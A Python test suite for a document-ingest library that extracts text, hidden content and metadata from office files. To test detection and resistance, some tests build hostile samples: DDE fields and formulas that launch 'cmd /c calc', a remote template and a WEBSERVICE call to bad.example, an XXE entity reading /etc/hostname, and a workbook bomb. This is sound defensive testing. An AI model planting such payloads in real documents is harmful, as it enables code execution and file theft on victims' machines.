"""What a reporter expects of office files, read from their own bytes: LibreOffice stays out of it here."""

from __future__ import annotations

import io
import os
import random
import zipfile
from datetime import UTC, datetime

import made_office as made
import openpyxl
import pytest
from msoffcrypto.format.ooxml import OOXMLFile
from openpyxl.comments import Comment

import ingest
from ingest.errors import Encrypted, IngestError, NeedsLibreOffice, TooLarge
from ingest.model import FindingKind, HiddenKind, Limits


@pytest.fixture(autouse=True, scope="module")
def _without_libreoffice():
    ingest.configure(workers=1, libreoffice=False, passwords=("heron",))
    yield
    ingest.configure()


def failure_of(read, data: bytes) -> IngestError | None:
    try:
        read(data)
    except IngestError as error:
        return error
    return None


def text_of(found: ingest.Extraction) -> str:
    return "\n".join(page.text for page in found.pages)


def hidden_of(found: ingest.Extraction, kind: HiddenKind) -> str:
    return "\n".join(entry.text for page in found.pages for entry in page.hidden if entry.kind is kind)


def kinds_of(found: ingest.Extraction) -> set[FindingKind]:
    return {finding.kind for finding in found.findings}


# Word


def test_a_word_document_gives_its_text_headers_notes_tables_and_boxes(read) -> None:
    box = "<w:r><w:pict><w:txbxContent><w:p><w:r><w:t>Boxed</w:t></w:r></w:p></w:txbxContent></w:pict></w:r>"
    table = "<w:tbl><w:tr><w:tc>{}</w:tc><w:tc>{}</w:tc></w:tr></w:tbl>"
    found = read(
        made.docx(
            made.paragraph("Meet at noon")
            + f"<w:p>{box}</w:p>"
            + table.format(made.paragraph("Name"), made.paragraph("Karina")),
            {
                "word/header1.xml": made.word_part("hdr", made.paragraph("Letterhead")),
                "word/footer1.xml": made.word_part("ftr", made.paragraph("Confidential")),
                "word/footnotes.xml": made.word_part(
                    "footnotes", f"<w:footnote>{made.paragraph('See annex')}</w:footnote>"
                ),
            },
        )
    )
    assert found.media_type.endswith("wordprocessingml.document")
    assert text_of(found).split("\n") == [
        "Letterhead", "Meet at noon", "Boxed", "Name Karina", "See annex", "Confidential",
    ]  # fmt: skip


def test_deleted_text_and_comments_are_found_and_marked_as_not_seen(read) -> None:
    found = read(
        made.docx(
            '<w:p><w:del w:author="Editor"><w:r><w:delText>twelve drivers</w:delText></w:r></w:del>'
            '<w:ins w:author="Editor"><w:r><w:t>some drivers</w:t></w:r></w:ins></w:p>',
            {
                "word/comments.xml": made.word_part(
                    "comments", f'<w:comment w:author="Lawyer">{made.paragraph("Take this out")}</w:comment>'
                )
            },
        )
    )
    assert text_of(found) == "some drivers"
    assert hidden_of(found, HiddenKind.TRACKED_CHANGE) == "twelve drivers"
    assert hidden_of(found, HiddenKind.COMMENT) == "Lawyer: Take this out"
    assert {FindingKind.COMMENT, FindingKind.TRACKED_CHANGE} <= kinds_of(found)


@pytest.mark.parametrize("way", ["run", "style"])
def test_text_set_to_be_hidden_is_hidden_text(read, way: str) -> None:
    style = made.word_part(
        "styles", '<w:style w:styleId="Secret"><w:name w:val="Secret"/><w:rPr><w:vanish/></w:rPr></w:style>'
    )
    properties = "<w:vanish/>" if way == "run" else '<w:rStyle w:val="Secret"/>'
    body = made.paragraph("shown") + made.paragraph("unseen", properties)
    found = read(made.docx(body, {"word/styles.xml": style}))
    assert (text_of(found), hidden_of(found, HiddenKind.INVISIBLE)) == ("shown", "unseen")
    assert FindingKind.HIDDEN_TEXT in kinds_of(found)


def test_hidden_text_that_is_switched_off_again_is_shown(read) -> None:
    assert text_of(read(made.docx(made.paragraph("shown", '<w:vanish w:val="0"/>')))) == "shown"


def test_a_remote_template_and_a_field_that_starts_a_program_are_noted(read) -> None:
    field = (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDEAUTO cm</w:instrText></w:r>'
        '<w:r><w:instrText>d "/k calc"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )
    data = made.docx(
        field,
        {"word/_rels/settings.xml.rels": made.relations(t="attachedTemplate !http://bad.example/t.dotm")},
        link="hyperlink !http://good.example/",
    )
    quotes = {finding.kind: finding.untrusted_quote for finding in read(data).findings}
    assert quotes == {
        FindingKind.REMOTE_REFERENCE: "http://bad.example/t.dotm",
        FindingKind.LAUNCH_ACTION: 'DDEAUTO cmd "/k calc"',
    }


def test_addresses_behind_links_and_descriptions_of_pictures_are_searchable(read) -> None:
    picture = (
        '<w:p><w:r><w:drawing><x:docPr xmlns:x="urn:x" descr="Two men at a gate"/></w:drawing></w:r></w:p>'
    )
    found = read(made.docx(picture, link="hyperlink !http://good.example/"))
    assert hidden_of(found, HiddenKind.NOT_SHOWN).split("\n") == ["Two men at a gate", "http://good.example/"]


def test_a_document_says_who_made_it_when_and_with_what(read) -> None:
    core = (
        '<c xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>Plan</dc:title><dc:creator>Ann</dc:creator>'
        "<lastModifiedBy>Bob</lastModifiedBy><created>2020-09-07T10:00:00+02:00</created></c>"
    )
    app = "<p><Company>Acme</Company><Application>Word</Application></p>"
    found = read(made.docx(made.paragraph("x"), {"docProps/core.xml": core, "docProps/app.xml": app}))
    assert (found.title, found.author, found.date) == ("Plan", "Ann", datetime(2020, 9, 7, 8, tzinfo=UTC))
    assert dict(found.metadata) == {"last-modified-by": "Bob", "company": "Acme", "software": "Word"}


def test_a_file_in_a_document_comes_out_under_its_own_name(read) -> None:
    olefile_made = pytest.importorskip("olefile")
    assert olefile_made
    data = made.docx(made.paragraph("x"), {"word/embeddings/sheet.xlsx": b"PK rest"})
    assert [(child.untrusted_name, child.data) for child in read(data).attachments] == [
        ("word/embeddings/sheet.xlsx", b"PK rest")
    ]


def test_a_table_wider_than_the_page_loses_no_word(read) -> None:
    cells = "".join(f"<w:tc>{made.paragraph(f'internationalisation{n}')}</w:tc>" for n in range(40))
    found = read(made.docx(f"<w:tbl><w:tr>{cells}</w:tr></w:tbl>"))
    assert text_of(found).split() == [f"internationalisation{n}" for n in range(40)]
    assert all(word.box.x1 <= found.pages[0].width_pt for word in found.pages[0].words())


def test_a_long_document_is_read_to_its_end(read) -> None:
    found = read(made.docx("".join(made.paragraph(f"paragraph {n} " + "words " * 40) for n in range(2000))))
    assert "paragraph 1999" in text_of(found)
    assert len(found.pages) > 50


def test_a_word_document_cut_in_half_gives_what_is_left(read) -> None:
    data = made.docx("".join(made.paragraph(f"paragraph {random.random()}") for _ in range(3000)))
    found = read(data[: len(data) // 2])
    assert found.media_type.endswith("wordprocessingml.document")
    assert "paragraph" in text_of(found)
    assert found.defects


# PowerPoint


def test_slides_come_in_order_with_notes_and_comments_beside_them(read) -> None:
    notes = made.slide_part("notes", made.shape("Do not show the board", '<p:ph type="body"/>'))
    comments = made.slide_part("cmLst", '<p:cm authorId="0"><p:text>Is this true?</p:text></p:cm>')
    found = read(
        made.pptx(
            [made.shape("First"), made.shape("Second", descr="A map")],
            {
                "ppt/slides/_rels/slide2.xml.rels": made.relations(
                    n="notesSlide ../notesSlides/notesSlide1.xml", c="comments ../comments/comment1.xml"
                ),
                "ppt/notesSlides/notesSlide1.xml": notes,
                "ppt/comments/comment1.xml": comments,
                "ppt/commentAuthors.xml": made.slide_part("cmAuthorLst", '<p:cmAuthor id="0" name="Bob"/>'),
            },
        )
    )
    assert [page.text for page in found.pages] == ["First", "Second"]
    assert [(entry.kind, entry.text) for entry in found.pages[1].hidden] == [
        (HiddenKind.NOT_SHOWN, "A map"),
        (HiddenKind.SPEAKER_NOTES, "Do not show the board"),
        (HiddenKind.COMMENT, "Bob: Is this true?"),
    ]
    assert {FindingKind.SPEAKER_NOTES, FindingKind.COMMENT} <= kinds_of(found)


def test_hidden_slides_are_shown_marked_and_hidden_shapes_are_hidden_text(read) -> None:
    found = read(made.pptx(["hidden:" + made.shape("Backup plan") + made.shape("Old figure", hidden="1")]))
    assert text_of(found) == "(hidden slide)\nBackup plan"
    assert hidden_of(found, HiddenKind.INVISIBLE) == "Old figure"
    assert FindingKind.HIDDEN_TEXT in kinds_of(found)


def test_a_slide_that_no_show_lists_is_read_all_the_same(read) -> None:
    data = made.pptx(
        [made.shape("Listed")], {"ppt/slides/slide9.xml": made.slide_part("sld", made.shape("Left behind"))}
    )
    assert text_of(read(data)) == "Listed\nLeft behind"


# Excel


def workbook(fill) -> bytes:
    book = openpyxl.Workbook()
    fill(book)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def test_cells_are_shown_as_a_person_sees_them(read) -> None:
    def fill(book: openpyxl.Workbook) -> None:
        sheet = book.active
        sheet.append(["Name", "Day", "Share", "Sum", "Number", "Yes", "Formula"])
        sheet.append(["Karina", datetime(2020, 9, 7), 0.125, 1234.5, "0042", True, "=A1&B1"])
        sheet["C2"].number_format = "0.0%"
        sheet.append([None, datetime(2020, 9, 7, 8, 30)])

    assert text_of(read(workbook(fill))).split("\n") == [
        "Sheet", "Name Day Share Sum Number Yes Formula", "Karina 2020-09-07 12.5% 1234.5 0042 TRUE =A1&B1",
        "2020-09-07 08:30",
    ]  # fmt: skip


def test_hidden_sheets_rows_and_columns_are_readable_tables_and_say_that_they_are_hidden(read) -> None:
    def fill(book: openpyxl.Workbook) -> None:
        sheet = book.active
        sheet.append(["Name", "Salary"])
        sheet.append(["Karina", 5000])
        sheet.append(["Secret", 9999])
        sheet.column_dimensions["B"].hidden = True
        sheet.row_dimensions[3].hidden = True
        other = book.create_sheet("Payments")
        other.sheet_state = "veryHidden"
        other.append(["offshore"])

    found = read(workbook(fill))
    assert text_of(found).split("\n") == [
        "Sheet", "Name Salary (hidden column)", "Karina 5000", "Secret 9999 (hidden row)",
        "Payments (hidden sheet)", "offshore",
    ]  # fmt: skip
    (finding,) = found.findings
    assert (finding.kind, finding.message[0]) == (FindingKind.HIDDEN_CELLS, "3")


def test_comments_on_cells_and_defined_names_are_searchable(read) -> None:
    def fill(book: openpyxl.Workbook) -> None:
        book.active["B2"] = "x"
        book.active["B2"].comment = Comment("check with legal", "Ann")
        book.defined_names["Kickback"] = openpyxl.workbook.defined_name.DefinedName(
            "Kickback", attr_text="Sheet!$B$2"
        )

    found = read(workbook(fill))
    assert hidden_of(found, HiddenKind.COMMENT) == "B2 Ann: check with legal"
    assert hidden_of(found, HiddenKind.NOT_SHOWN) == "Kickback = Sheet!$B$2"


def test_a_wide_sheet_goes_on_beside_and_loses_no_word(read) -> None:
    def fill(book: openpyxl.Workbook) -> None:
        for row in range(3):
            book.active.append([f"internationalisation-{row}-{column}" for column in range(60)])

    found = read(workbook(fill))
    assert len(text_of(found).split()) == 1 + 180
    assert all(word.box.x1 <= page.width_pt for page in found.pages for word in page.words())


def test_long_cells_and_long_words_are_wrapped_and_kept(read) -> None:
    digest = "a" * 128

    def fill(book: openpyxl.Workbook) -> None:
        book.active.append([digest, "sentence " * 3000, "end"])

    words = text_of(read(workbook(fill))).split()
    assert words.count("sentence") == 3000
    assert digest in words
    assert "end" in words


def test_a_page_of_a_long_sheet_is_rendered_as_it_was_read(read, render) -> None:
    def fill(book: openpyxl.Workbook) -> None:
        for number in range(500):
            book.active.append([f"row {number}", "x" * (number % 50)])

    data = workbook(fill)
    pages = read(data).pages
    assert len(pages) > 5
    last = pages[-1]
    image = render(data, last.number)
    assert abs(image.width_px - last.width_pt) <= 1
    assert abs(image.height_px - last.height_pt) <= 1
    assert "row 499" in last.text


def test_the_data_behind_a_pivot_table_is_read(read) -> None:
    def fill(book: openpyxl.Workbook) -> None:
        book.active.append(["total", 3])

    with zipfile.ZipFile(io.BytesIO(workbook(fill))) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    found = read(
        made.zipped(
            parts
            | {
                "xl/pivotCache/pivotCacheDefinition1.xml": '<d><cacheField name="Payee"><sharedItems><s v="Karina"/>'
                '</sharedItems></cacheField><cacheField name="Sum"/></d>',
                "xl/pivotCache/_rels/pivotCacheDefinition1.xml.rels": made.relations(
                    r="pivotCacheRecords pivotCacheRecords1.xml"
                ),
                "xl/pivotCache/pivotCacheRecords1.xml": '<p><r><x v="0"/><n v="700"/></r></p>',
            }
        )
    )
    assert "Payee Sum\nKarina 700" in text_of(found)


def test_a_workbook_that_asks_for_another_program_or_host_is_noted(read) -> None:
    def fill(book: openpyxl.Workbook) -> None:
        book.active["A1"] = '=WEBSERVICE("http://bad.example")'
        book.active["A2"] = "=cmd|'/c calc'!A0"

    assert kinds_of(read(workbook(fill))) == {FindingKind.REMOTE_REFERENCE, FindingKind.LAUNCH_ACTION}


# OpenDocument


def test_an_opendocument_text_gives_text_notes_changes_and_comments(read) -> None:
    body = (
        "<text:tracked-changes><text:changed-region><text:deletion><office:change-info><dc:creator>Ed</dc:creator>"
        "</office:change-info><text:p>twelve drivers</text:p></text:deletion></text:changed-region>"
        "</text:tracked-changes><text:h>Report</text:h><text:p>Meet<text:s text:c='2'/>at noon"
        "<text:note><text:note-citation>1</text:note-citation><text:note-body>"
        "<text:p>See annex</text:p></text:note-body></text:note>"
        "<office:annotation><dc:creator>Law"
        "</dc:creator><text:p>Take out</text:p></office:annotation></text:p>"
        '<text:p><text:span text:style-name="T1">unseen</text:span></text:p>'
    )
    styles = '<style:style style:name="T1"><style:text-properties text:display="none"/></style:style>'
    found = read(made.odf("text", body, styles=styles))
    assert text_of(found) == "Report\nMeet at noon1\nSee annex"
    assert hidden_of(found, HiddenKind.TRACKED_CHANGE) == "twelve drivers"
    assert hidden_of(found, HiddenKind.COMMENT) == "Law: Take out"
    assert hidden_of(found, HiddenKind.INVISIBLE) == "unseen"


def test_opendocument_slides_keep_their_notes_apart(read) -> None:
    page = (
        "<draw:page><draw:frame><draw:text-box><text:p>{}</text:p></draw:text-box></draw:frame>"
        "<presentation:notes><draw:frame><draw:text-box><text:p>{}</text:p></draw:text-box></draw:frame>"
        "</presentation:notes></draw:page>"
    )
    found = read(made.odf("presentation", page.format("One", "say this") + page.format("Two", "")))
    assert [page.text for page in found.pages] == ["One", "Two"]
    assert hidden_of(found, HiddenKind.SPEAKER_NOTES) == "say this"


def test_an_opendocument_sheet_shows_cells_and_repeats_and_hidden_sheets(read) -> None:
    cell = '<table:table-cell office:value-type="{}" {}><text:p>{}</text:p></table:table-cell>'
    body = (
        '<table:table table:name="Open"><table:table-column table:number-columns-repeated="2"/><table:table-row>'
        + cell.format("string", "", "Day")
        + cell.format("date", 'office:date-value="2020-09-07T00:00:00"', "7.9.20")
        + '</table:table-row><table:table-row table:number-rows-repeated="1048574"><table:table-cell '
        'table:number-columns-repeated="16384"/></table:table-row></table:table>'
        '<table:table table:name="Shut" table:style-name="ta1"><table:table-row>'
        + cell.format("float", 'office:value="5"', "5")
        + "</table:table-row></table:table>"
    )
    styles = '<style:style style:name="ta1"><style:table-properties table:display="false"/></style:style>'
    found = read(made.odf("spreadsheet", body, styles=styles))
    assert text_of(found) == "Open\nDay 2020-09-07\nShut (hidden sheet)\n5"
    assert kinds_of(found) == {FindingKind.HIDDEN_CELLS}


def test_macros_of_opendocument_are_noted_and_their_text_is_searchable(read) -> None:
    macro = '<script:module xmlns:script="urn:s">Sub Payload</script:module>'
    found = read(made.odf("text", "<text:p>x</text:p>", more={"Basic/Standard/Module1.xml": macro}))
    assert kinds_of(found) == {FindingKind.MACRO}
    assert hidden_of(found, HiddenKind.NOT_SHOWN) == "Sub Payload"


def test_a_locked_opendocument_file_says_so(read) -> None:
    manifest = made.odf_part(
        "manifest:manifest", "<manifest:file-entry><manifest:encryption-data/></manifest:file-entry>"
    )
    with pytest.raises(Encrypted):
        read(made.odf("text", "", more={"META-INF/manifest.xml": manifest}))


# RTF


def test_rtf_gives_text_in_its_code_pages_with_tables_and_notes(read) -> None:
    found = read(
        rb"{\rtf1\ansi\ansicpg1252{\fonttbl{\f0\fcharset0 Arial;}{\f1\fcharset204 Arial Cyr;}}"
        rb"{\info{\title Plan}{\author Ann}{\creatim\yr2020\mo9\dy7\hr8\min30}}"
        rb"\pard Stra\'dfe \u8364?5 \f1\'cc\'ee\'f1\'ea\'e2\'e0\f0\par"
        rb"\trowd\intbl Name\cell Karina\cell\row\pard{\footnote See annex}after\par}"
    )
    assert text_of(found) == "Straße €5 Москва\nName Karina\nafter\nSee annex"
    assert (found.title, found.author, found.date) == ("Plan", "Ann", datetime(2020, 9, 7, 8, 30, tzinfo=UTC))


def test_rtf_keeps_deleted_hidden_and_commented_text_apart(read) -> None:
    found = read(
        rb"{\rtf1 shown {\v unseen}{\deleted twelve}{\revised some}{\*\atnauthor Law}{\*\annotation Take out}\par"
        rb'{\field{\*\fldinst DDEAUTO c "x"}{\fldrslt result}}}'
    )
    assert text_of(found) == "shown some\nresult"
    assert hidden_of(found, HiddenKind.INVISIBLE) == "unseen"
    assert hidden_of(found, HiddenKind.TRACKED_CHANGE) == "twelve"
    assert hidden_of(found, HiddenKind.COMMENT) == "Law: Take out"
    assert FindingKind.LAUNCH_ACTION in kinds_of(found)


def test_rtf_gives_the_file_packed_into_it(read) -> None:
    package = made.ole_package("note.txt", b"inside")[4:]
    header = b"\x01\x05\x00\x00\x02\x00\x00\x00\x08\x00\x00\x00Package\x00" + b"\x00" * 8
    data = header + len(package).to_bytes(4, "little") + package
    found = read(rb"{\rtf1 x{\object\objemb{\*\objclass Package}{\*\objdata " + data.hex().encode() + b"}}}")
    assert [(child.untrusted_name, child.data) for child in found.attachments] == [("note.txt", b"inside")]


def test_rtf_cut_short_gives_what_came_before(read) -> None:
    found = read(rb"{\rtf1 before{\b mid")
    assert text_of(found) == "beforemid"
    assert FindingKind.CUT_SHORT in kinds_of(found)


# Tables as text


@pytest.mark.parametrize(
    ("data", "media_type", "words"),
    [
        (b"name,sum\nKarina,5\nJan,7\n", "text/csv", "name sum\nKarina 5\nJan 7"),
        (b'name;note\nKarina;"a; b"\nJan;c\n', "text/csv", "name note\nKarina a; b\nJan c"),
        (b"name\tsum\nKarina\t5\nJan\t7\n", "text/tab-separated-values", "name sum\nKarina 5\nJan 7"),
        ("name,stadt\nJörg,Köln\nÜmit,Ürdingen\n".encode("utf-16"), "text/csv", "name stadt\nJörg Köln\nÜmit Ürdingen"),
        (b"a,b,c\n1,2,3\n1,2\n1,2,3\n1,2,3\n", "text/csv", "a b c\n1 2 3\n1 2\n1 2 3\n1 2 3"),
    ],
)  # fmt: skip
def test_a_table_as_text_is_read_row_by_row(read, data: bytes, media_type: str, words: str) -> None:
    found = read(data)
    assert (found.media_type, text_of(found)) == (media_type, words)


@pytest.mark.parametrize(
    "text",
    [
        "Dear Ann, we met,\nthen, on Friday, they left.\nYours, Bob\n",
        "int main() {\n  a(1, 2);\n  b(3, 4);\n}\n",
        '{"a": 1, "b": 2}\n{"a": 3, "b": 4}\n',
        "one line, with a comma",
        "London, 5 May\nParis, 6 May\n",
    ],
)
def test_text_that_merely_has_commas_stays_text(read, text: str) -> None:
    assert read(text.encode()).media_type == "text/plain"


def test_a_table_whose_odd_letters_come_late_is_decoded_right(read) -> None:
    rows = "".join(f"{n},Berlin\n" for n in range(40_000)) + "1,München\n2,Köln\n3,Düsseldorf\n"
    assert "München" in read(rows.encode("cp1252")).pages[-1].text


# What locks, damages or attacks


@pytest.mark.parametrize(("password", "opens"), [("heron", True), ("stork", False)])
def test_a_locked_workbook_is_tried_with_the_passwords_given(read, password: str, opens: bool) -> None:
    import msoffcrypto.format.ooxml as locked

    out = io.BytesIO()
    plain = io.BytesIO(workbook(lambda book: book.active.append(["the secret ledger"])))
    locked.OOXMLFile(plain).encrypt(password, out)
    if not opens:
        with pytest.raises(Encrypted):
            read(out.getvalue())
        return
    found = read(out.getvalue())
    assert "the secret ledger" in text_of(found)
    assert ("opened-with", "password") in found.metadata


def test_an_old_word_document_without_libreoffice_is_a_skip_by_rule(read) -> None:
    with pytest.raises(NeedsLibreOffice) as caught:
        read(b"\xffWPC" + b"\x00" * 100)
    assert caught.value.by_rule


def test_a_zip_that_merely_holds_a_word_document_is_a_zip(read) -> None:
    data = made.zipped({"folder/letter.docx": made.docx(made.paragraph("x"))})
    failure = failure_of(read, data)
    assert (failure.media_type if failure else read(data).media_type) == "application/zip"


@pytest.fixture
def _small_limits():
    ingest.configure(workers=1, libreoffice=False, limits=Limits(attachment_bytes=4 * 1024**2))
    yield
    ingest.configure(workers=1, libreoffice=False, passwords=("heron",))


@pytest.mark.usefixtures("_small_limits")
def test_a_bomb_in_a_workbook_is_refused(read) -> None:
    sheet = "<sheetData>" + '<row><c t="str"><v>aaaa</v></c></row>' * 300_000 + "</sheetData>"
    book = '<w xmlns:r="urn:r"><sheets><sheet name="S" r:id="s"/></sheets></w>'
    with pytest.raises(TooLarge):
        read(
            made.zipped(
                {
                    "[Content_Types].xml": "<Types/>",
                    "xl/workbook.xml": book,
                    "xl/_rels/workbook.xml.rels": made.relations(s="worksheet worksheets/sheet1.xml"),
                    "xl/worksheets/sheet1.xml": f"<worksheet>{sheet}</worksheet>",
                }
            )
        )


def test_entities_are_not_expanded_and_files_are_not_read(read) -> None:
    laughs = '<!DOCTYPE x [<!ENTITY a "haha"><!ENTITY b "&a;&a;"><!ENTITY f SYSTEM "file:///etc/hostname">]>'
    data = made.docx(
        "", {"word/document.xml": laughs + made.word_part("document", made.paragraph("x&b;&f;y"))}
    )
    assert text_of(read(data)) == "x&b;&f;y"


def test_a_part_nested_a_thousand_times_is_no_crash(read) -> None:
    deep = "<w:tbl><w:tr><w:tc>" * 1000 + made.paragraph("deep") + "</w:tc></w:tr></w:tbl>" * 1000
    assert "before" in text_of(read(made.docx(made.paragraph("before") + deep)))


@pytest.mark.parametrize("kind", ["docx", "pptx", "xlsx", "odt", "ods", "rtf"])
def test_damaged_files_end_in_words_of_ours(read, kind: str) -> None:
    whole = {
        "docx": made.docx(made.paragraph("some words") * 50),
        "pptx": made.pptx([made.shape("some words")] * 5),
        "xlsx": workbook(lambda book: [book.active.append(["some", n]) for n in range(50)]),
        "odt": made.odf("text", "<text:p>some words</text:p>" * 50),
        "ods": made.odf("spreadsheet", "<table:table><table:table-row/></table:table>" * 5),
        "rtf": rb"{\rtf1{\fonttbl{\f0\fcharset0 A;}} some \b words\b0 \u8364? \'e4\par}" * 5,
    }[kind]
    chance = random.Random(kind)
    for _ in range(40):
        data = bytearray(whole)
        for _ in range(chance.randint(1, 12)):
            data[chance.randrange(len(data))] = chance.randrange(256)
        data = data[: chance.randint(len(data) // 2, len(data))]
        failure = failure_of(read, bytes(data))
        assert failure is None or "Error" not in failure.message, failure.message


def test_a_locked_document_too_large_to_unlock_is_not_called_locked(read) -> None:
    """The password is right: to ask for another would send a reporter away for nothing."""
    plain = made.docx(made.paragraph("x"), {"word/media/noise.bin": os.urandom(2_000_000)})
    locked = io.BytesIO()
    OOXMLFile(io.BytesIO(plain)).encrypt("heron", locked)
    assert read(locked.getvalue()).pages[0].text == "x"
    few = Limits(written_bytes=1_000_000)
    ingest.configure(workers=1, libreoffice=False, passwords=("heron",), limits=few)
    assert isinstance(failure_of(read, locked.getvalue()), TooLarge)
    ingest.configure(workers=1, libreoffice=False, passwords=("heron",))
